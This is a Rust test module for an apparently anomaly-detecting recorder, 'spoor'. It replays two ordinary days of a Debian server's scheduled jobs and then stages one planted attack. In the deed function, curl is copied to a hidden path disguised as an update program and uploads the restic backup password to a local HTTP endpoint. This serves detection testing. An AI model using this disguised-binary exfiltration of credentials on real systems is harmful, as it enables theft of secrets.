//! An ordinary day of a Debian, played twice by its own programs while `spoor record` looks on, and then a deed that is not
//! ordinary. What is recorded leaves the guest by its second serial line; the test `day` of the agent replays it.
//!
//! The second day is there because the first teaches what is usual: each of its stations begins later after the first day's
//! same station than all of that day took, so that a time of learning fits between them. Two programs do nothing and say
//! where one part ends: `DUSK` and `MIDNIGHT`.

mod admin;
mod beside;
mod house;

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use nix::sys::signal::{Signal, kill};
use nix::sys::termios::{SetArg, cfmakeraw, tcdrain, tcgetattr, tcsetattr};
use nix::unistd::Pid;

use super::house::shell;
use super::{SECRET, verdict};
use crate::{PATIENCE, Place};
pub use house::before_boot;

/// The first day is over.
const DUSK: &str = "/srv/day/dusk";
/// So is the second; what follows is not ordinary.
const MIDNIGHT: &str = "/srv/day/midnight";
/// Where jobs say that they are done.
const DONE: &str = "/run/day";
/// Between a station of the first day and that of the second, beside all that the first day took.
const NIGHT: Duration = Duration::from_secs(30);
/// What takes the capture out.
const LINE: &str = "/dev/ttyS1";

/// One thing that happens each day.
struct Station {
    name: &'static str,
    work: Work,
}

enum Work {
    /// A command begins it, or it happens by itself where that is empty; and who says that it is done.
    Job(&'static str, &'static str),
    /// By a person.
    Admin,
}

const fn station(name: &'static str, work: Work) -> Station {
    Station { name, work }
}

const STATIONS: [Station; 8] = [
    station("monitoring", Work::Job("systemctl restart monitor.timer scrape.timer", "monitor")),
    station("cron", Work::Job("", "dump")),
    station("at", Work::Job("/srv/day/ask-for-report", "report")),
    station("admin", Work::Admin),
    station("backup", Work::Job("systemctl restart backup.timer", "backup")),
    station("rotation", Work::Job("systemctl start logrotate.service", "rotation")),
    station("renewal", Work::Job("systemctl restart renew.timer", "renew")),
    station("scraped", Work::Job("", "scrape")),
];

/// Records it. One verdict a station and day, and one for the capture; where auditd is to look on, too, figures of both.
///
/// # Errors
/// Where the servers, the agent or auditd do not start.
pub fn day(place: &Place, beside_auditd: bool) -> Result<()> {
    house::start().context("start the servers")?;
    let auditd = beside_auditd.then(beside::start).transpose().context("start auditd")?;
    let capture = place.work.join("day.spoor");
    let recorder = record(place, &capture)?;
    let began = Instant::now();
    let mut before: Vec<Duration> = Vec::new();
    for station in &STATIONS {
        before.push(began.elapsed());
        verdict(place, &format!("day1-{}", station.name), station.take(1));
    }
    shell(DUSK)?;
    let first = began.elapsed();
    for (station, before) in STATIONS.iter().zip(before) {
        let begins = before + first + NIGHT;
        while let Some(left) = begins.checked_sub(began.elapsed()) {
            std::thread::park_timeout(left);
        }
        verdict(place, &format!("day2-{}", station.name), station.take(2));
    }
    shell(MIDNIGHT)?;
    println!("a day took {first:.0?}, both {:.0?}", began.elapsed());
    verdict(place, "deed", deed());
    let told = auditd.map(beside::stop).transpose().context("stop auditd")?;
    verdict(place, "capture", finish(place, recorder, &capture));
    told.map_or(Ok(()), |told| beside::say(place, &capture, &told).context("compare with auditd"))
}

impl Station {
    fn take(&self, day: usize) -> Result<()> {
        match self.work {
            Work::Job(begins, by) => job(begins, by),
            Work::Admin => admin::works(day),
        }
    }
}

/// Begins a job and waits until it is done.
fn job(begins: &str, by: &str) -> Result<()> {
    let before = done(by).len();
    shell(begins)?;
    let deadline = Instant::now() + 3 * PATIENCE;
    loop {
        match done(by).get(before).map(String::as_str) {
            Some("success") => return Ok(()),
            Some(other) => bail!("it ended with {other}"),
            None => ensure!(Instant::now() < deadline, "nobody said in {DONE}/{by} that it is done"),
        }
        std::thread::park_timeout(Duration::from_millis(200));
    }
}

/// What was said by who does it, one line a time.
fn done(by: &str) -> Vec<String> {
    let said = fs::read_to_string(Path::new(DONE).join(by)).unwrap_or_default();
    // A line that is being written has no end yet.
    said.split_inclusive('\n').filter_map(|line| line.strip_suffix('\n')).map(str::to_owned).collect()
}

/// A program that nobody installed sends the password of the backups away.
fn deed() -> Result<()> {
    shell("install -D /usr/bin/curl /tmp/.cache/update")?;
    shell(
        "systemd-run --quiet --wait --pipe --unit=cache-update \
         /tmp/.cache/update --silent --upload-file /etc/restic/password http://127.0.0.1:8080/in",
    )
}

fn log(place: &Place) -> String {
    fs::read_to_string(place.work.join("record.log")).unwrap_or_default()
}

fn record(place: &Place, capture: &Path) -> Result<Child> {
    let ready = place.work.join("record.ready");
    let said = fs::File::create(place.work.join("record.log"))?;
    let mut command = Command::new(&place.spoor);
    command.arg("record").arg("--out").arg(capture).arg("--ready-file").arg(&ready);
    let mut child = command.stdin(Stdio::null()).stdout(said.try_clone()?).stderr(said).spawn()?;
    let deadline = Instant::now() + PATIENCE;
    while !ready.exists() {
        if let Some(status) = child.try_wait()? {
            bail!("`spoor record` ended with {status}: {}", log(place));
        }
        ensure!(Instant::now() < deadline, "`spoor record` did not get ready: {}", log(place));
        std::thread::park_timeout(Duration::from_millis(20));
    }
    Ok(child)
}

/// Ends it, looks whether it is whole, and sends it.
fn finish(place: &Place, mut recorder: Child, capture: &Path) -> Result<()> {
    kill(Pid::from_raw(i32::try_from(recorder.id())?), Signal::SIGTERM)?;
    ensure!(recorder.wait()?.success(), "`spoor record` failed: {}", log(place));
    let replayed = Command::new(&place.spoor).arg("replay").arg(capture).output()?;
    println!("{}{}", log(place), String::from_utf8_lossy(&replayed.stdout));
    ensure!(replayed.status.success(), "{}", String::from_utf8_lossy(&replayed.stderr));
    let bytes = fs::read(capture)?;
    for secret in [SECRET.as_bytes(), b"PRIVATE KEY"] {
        ensure!(memchr::memmem::find(&bytes, secret).is_none(), "a secret is in the capture");
    }
    let packed = Command::new("gzip").args(["-9", "--no-name", "--stdout"]).arg(capture).output()?;
    ensure!(packed.status.success(), "gzip: {}", String::from_utf8_lossy(&packed.stderr));
    let mut line = fs::File::options().write(true).read(true).open(LINE)?;
    let mut raw = tcgetattr(&line)?;
    cfmakeraw(&mut raw);
    tcsetattr(&line, SetArg::TCSANOW, &raw)?;
    line.write_all(&packed.stdout)?;
    tcdrain(&line)?;
    Ok(())
}
